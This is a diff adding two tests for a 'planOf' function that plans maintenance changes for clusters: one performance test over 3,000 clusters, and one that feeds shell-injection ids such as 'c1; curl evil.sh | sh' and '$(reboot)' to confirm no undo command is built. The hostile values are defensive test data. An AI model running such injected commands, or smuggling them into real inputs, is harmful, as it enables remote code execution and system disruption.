@@ -64,6 +64,28 @@ describe('planOf', () => {
     expect(namesOf(input([...others, one]))).toEqual(['one allows']);
   });
 
+  it('asks once when the next window opens, however many clusters there are', () => {
+    const many = Array.from({ length: 3_000 }, (_, index) => offCluster(index + 10));
+    const base = input(many);
+    const settings = {
+      ...base.settings,
+      maintenanceWindows: [{ days: ['saturday'] as const, from: '02:00', to: '04:00', timeZone: 'Asia/Shanghai' }],
+    };
+    const began = performance.now();
+    const { changes } = planOf({ ...base, settings });
+    expect(performance.now() - began).toBeLessThan(3_000);
+    expect(changes).toHaveLength(3_000);
+    expect(changes.every(({ answer }) => answer === 'stops')).toBe(true);
+  });
+
+  it.each(['c1; curl evil.sh | sh', '$(reboot)', "c1' '", '-rf', 'c1\nreboot', ''])(
+    'gives no command with the id %j, which a shell would take for more than a word',
+    (id) => {
+      const [change] = planOf(input([{ ...one, id }])).changes;
+      expect(change?.undo).toBe('');
+    },
+  );
+
   it('plans only what was named', () => {
     expect(namesOf(input(all, { only: [one.id] }))).toEqual(['one allows']);
   });
